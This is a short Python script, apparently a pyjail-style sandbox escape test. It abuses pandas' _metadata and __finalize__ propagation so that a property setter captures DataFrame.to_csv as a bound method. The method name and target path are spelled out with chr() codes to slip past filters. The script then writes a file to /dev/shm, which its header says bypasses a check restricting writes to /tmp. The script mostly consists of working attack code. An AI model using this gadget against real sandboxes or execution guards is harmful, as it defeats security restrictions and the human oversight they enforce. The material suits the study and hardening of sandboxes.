# source: pandas docs 'Subclassing pandas data structures' (_metadata / __finalize__ propagation), adapted like pyjail 'getattr-by-name gadget in library code' tricks
# family: pandas _metadata: NDFrame.__finalize__ does getattr(other, name)/object.__setattr__(self, name) for names in _metadata; a property setter on the result class receives the value
# goal: grabs DataFrame.to_csv as a bound method and calls it with a run-time path -> writes /dev/shm/pwn_h01.csv (outside /tmp, path check bypassed)
import pandas as pd

GRAB = []
NAME = "to" + chr(95) + "csv"


class Dst(pd.DataFrame):
    _metadata = [NAME]

    @property
    def _constructor(self):
        return Dst

    @property
    def to_csv(self):
        return None

    @to_csv.setter
    def to_csv(self, value):
        GRAB.append(value)


class Src(pd.DataFrame):
    _metadata = [NAME]

    @property
    def _constructor(self):
        return Dst


src = Src({"a": [1, 2, 3]})
res = src.copy()
print(len(GRAB), GRAB[0] if GRAB else None)
if GRAB:
    target = chr(47) + "dev" + chr(47) + "shm" + chr(47) + "pwn_h01.csv"
    GRAB[0](target)
    print(pd.read_csv("/data/x.csv") if False else "wrote", target)
